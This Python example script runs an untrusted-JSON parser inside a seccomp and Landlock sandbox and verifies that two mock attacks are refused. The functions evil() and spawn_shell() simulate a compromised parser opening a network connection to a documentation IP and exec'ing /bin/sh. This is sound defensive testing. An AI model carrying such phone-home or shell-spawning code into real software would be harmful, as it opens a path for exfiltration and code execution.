"""Parse untrusted input in a sandboxed worker: no network, no exec, no files, 2 s max.

The parser runs in a forked child under call_sandboxed(): seccomp refuses sockets and
exec, Landlock leaves it no files, rlimits cap memory and descriptors. The result comes
back as JSON data, so even a compromised parser cannot make this process run code.
"""

from __future__ import annotations

import json
import os
import socket
import tempfile
from typing import TYPE_CHECKING, Any

from hardenkit.errors import SandboxError
from hardenkit.sandbox import FilesystemPolicy, ResourceLimits, SeccompPolicy, call_sandboxed

if TYPE_CHECKING:
    from collections.abc import Callable

POLICY = SeccompPolicy(default="allow", deny=["@network-io", "execve", "execveat", "@mount"])
LIMITS = ResourceLimits(data_bytes=256 * 1024 * 1024, open_files=32, cpu_seconds=5)


def parse(text: str) -> dict[str, object]:
    """The "dangerous" work: parse JSON from an untrusted source and summarise it."""
    doc = json.loads(text)
    return {"type": type(doc).__name__, "keys": sorted(doc)[:10] if isinstance(doc, dict) else []}


def evil(text: str) -> str:
    """A parser that has been taken over: it tries to phone home."""
    del text
    socket.create_connection(("192.0.2.1", 80), timeout=1)
    return "exfiltrated"


def spawn_shell(text: str) -> str:
    """A parser that tries to run a program."""
    del text
    os.execv("/bin/sh", ["sh", "-c", "echo pwned"])  # noqa: S606 -- the attack under test


def main() -> int:
    with tempfile.TemporaryDirectory() as scratch:
        files = FilesystemPolicy(read=[scratch], write=[scratch])

        def sandboxed(fn: Callable[[str], object], text: str) -> object:
            return call_sandboxed(
                fn, text, seccomp=POLICY, limits=LIMITS, filesystem=files, timeout=2.0
            )

        print("parsed:", sandboxed(parse, '{"user": "ann", "id": 7}'))
        refused = [_refused(sandboxed, attack) for attack in (evil, spawn_shell)]
    return 0 if all(refused) else 1


def _refused(sandboxed: Callable[[Callable[[str], object], str], object], attack: Any) -> bool:
    try:
        sandboxed(attack, "{}")
    except SandboxError as err:
        print(f"{attack.__name__} refused: {err.exc_type or err.signal}")
        return True
    print(f"{attack.__name__} was NOT refused")
    return False


if __name__ == "__main__":
    raise SystemExit(main())
